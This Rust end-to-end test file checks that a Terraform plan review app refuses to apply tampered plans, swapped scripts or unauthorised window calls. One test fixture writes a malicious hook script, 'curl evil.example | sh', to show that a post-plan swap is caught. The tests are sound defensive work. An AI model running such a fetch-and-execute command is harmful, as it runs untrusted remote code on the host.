//! Journeys through the real app on which nothing is applied.

use std::fs;

use countersign_e2e::{App, key};
use countersign_testkit::github::Commit;
use countersign_testkit::scene::{AUTHOR, REPOSITORY, Scene, plan};
use serde_json::json;

use crate::guarding::call;
use crate::reviewer::{
    BASE, CHANGE, Token, approve, ask, assume, back, data, make_ready, open, plan_here, read, world,
};

/// Nothing was applied, and nobody holds the state.
fn nothing_was_applied(scene: &Scene) {
    assert_eq!(scene.state(), None, "something was applied");
    assert!(!scene.is_locked());
}

/// Tries to apply as far as the app lets one.
fn try_to_apply(app: &App) {
    app.click("button", "Apply to network-prod");
    app.wait("the app to refuse, or to ask", || {
        (app.window_count() == 2 || app.sees("Nothing was applied") || app.sees("Apply is blocked")).then_some(())
    });
    if app.window_count() == 2 {
        app.turn_to("Confirm apply");
        app.click("button", "Apply");
        app.see("Nothing was applied");
        app.press_away(key::ESCAPE.to_string());
        back(app);
    }
}

#[test]
fn one_flipped_byte_of_the_plan_file_applies_nothing() {
    let Some((scene, room)) = world(&[("main.tf", BASE)], &[("main.tf", CHANGE)], Token::Gh) else { return };
    let app = open(room);
    make_ready(&app);
    let sealed = fs::read_dir(data(&app).join("sealed")).unwrap().next().unwrap().unwrap().path();
    let file = sealed.join("plan.sealed");
    let mut bytes = fs::read(&file).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 1;
    fs::write(&file, bytes).unwrap();
    try_to_apply(&app);
    nothing_was_applied(&scene);
}

#[test]
fn a_plan_that_differs_from_the_published_one_that_was_approved_applies_nothing() {
    let Some((scene, room)) = world(&[("main.tf", BASE)], &[("main.tf", CHANGE)], Token::Gh) else { return };
    // What CI shows is harmless: three networks elsewhere.
    scene.publish(&plan("10.99.N.0/24"));
    let app = open(room);
    read(&app);
    app.see("10.99.0.0/24");
    approve(&app);
    plan_here(&app);
    assume(&app);
    app.see("Apply is blocked");
    app.see("terraform_data.subnet[0]");
    assert!(app.has_role("button", "Apply to network-prod").is_none(), "there is nothing to press");
    nothing_was_applied(&scene);
}

#[test]
fn a_script_that_was_swapped_after_the_plan_applies_nothing() {
    let hook = "resource \"terraform_data\" \"hook\" {\n  provisioner \"local-exec\" {\n    \
                command = \"sh ${path.module}/hook.sh\"\n  }\n}\n";
    let change = [("main.tf", hook), ("hook.sh", "echo harmless\n")];
    let Some((scene, room)) = world(&[("main.tf", BASE)], &change, Token::Gh) else { return };
    let app = open(room);
    make_ready(&app);
    scene.github.world(|world| {
        let evil = Commit::by(AUTHOR).says("Tidy up").file("prod/network/hook.sh", "curl evil.example | sh\n");
        world.push(REPOSITORY, "change", &[evil]);
    });
    try_to_apply(&app);
    nothing_was_applied(&scene);
}

/// Asks for the apply once more, and turns to the window when it shows that question.
fn ask_again(app: &App, before: &serde_json::Value) {
    let windows = app.session().windows().unwrap();
    app.click("button", "Apply to network-prod");
    app.wait("another window", || {
        app.session().windows().ok()?.iter().any(|window| !windows.contains(window)).then_some(())
    });
    app.turn_to("Confirm apply");
    app.see("Apply to network-prod?");
    let question = call(app, "plugin:apply|confirm", json!({ "request": {} })).unwrap();
    assert_ne!(question["question"], *before);
    assert_eq!(app.window_count(), 2);
}

#[test]
fn the_main_window_can_call_nothing_that_applies() {
    let Some((scene, room)) = world(&[("main.tf", BASE)], &[("main.tf", CHANGE)], Token::Gh) else { return };
    let app = open(room);
    make_ready(&app);
    ask(&app);
    app.see("Apply to network-prod?");
    back(&app);
    // The question is there and everything holds: only the window that asks it may answer.
    for command in ["confirm", "confirm_apply", "confirm_cancel"] {
        let given = json!({ "request": { "name": "prod/network", "count": "0" } });
        let refused = call(&app, &format!("plugin:apply|{command}"), given).expect_err(command);
        assert!(refused.contains("not allowed"), "{command}: {refused}");
    }
    nothing_was_applied(&scene);
    // And the window that asks may do nothing else.
    app.turn_to("Confirm apply");
    for command in ["app_info", "approve", "assume_role", "open_plan"] {
        let refused = call(&app, &format!("plugin:review|{command}"), json!({ "request": {} })).expect_err(command);
        assert!(refused.contains("not allowed"), "{command}: {refused}");
    }
    let question = call(&app, "plugin:apply|confirm", json!({ "request": {} })).unwrap();
    assert_eq!(question["label"], "prod/network");
    // Asked again while it is open, there is one window, with a question of its own.
    back(&app);
    ask_again(&app, &question["question"]);
    // Closing it withdraws the question.
    app.press_away(key::ESCAPE.to_string());
    back(&app);
    app.wait("one window to be left", || (app.window_count() == 1).then_some(()));
    nothing_was_applied(&scene);
}
